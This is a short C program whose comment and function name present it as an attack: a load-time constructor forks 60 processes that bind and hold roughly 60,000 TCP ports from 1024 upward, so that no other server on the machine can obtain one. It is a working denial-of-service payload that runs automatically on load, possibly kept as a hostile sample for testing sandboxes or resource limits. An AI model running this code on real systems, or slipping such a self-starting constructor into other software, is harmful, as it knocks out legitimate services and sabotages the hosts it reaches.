/* Takes all ports that it can, so that no other server finds one. */

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

enum { CHILDREN = 60, EACH = 1000, FIRST = 1024 };

static void
take(int port)
{
    struct sockaddr_in address = {.sin_family = AF_INET};
    int fd = socket(AF_INET, SOCK_STREAM, 0);

    address.sin_port = htons((uint16_t)port);
    if (bind(fd, (struct sockaddr *)&address, sizeof address) == 0)
        (void)listen(fd, 1);
}

__attribute__((constructor)) static void
attack(void)
{
    for (int child = 0; child < CHILDREN; child++)
        if (fork() == 0) {
            for (int i = 0; i < EACH; i++)
                take(FIRST + child * EACH + i);
            for (;;)
                (void)pause();
        }
}
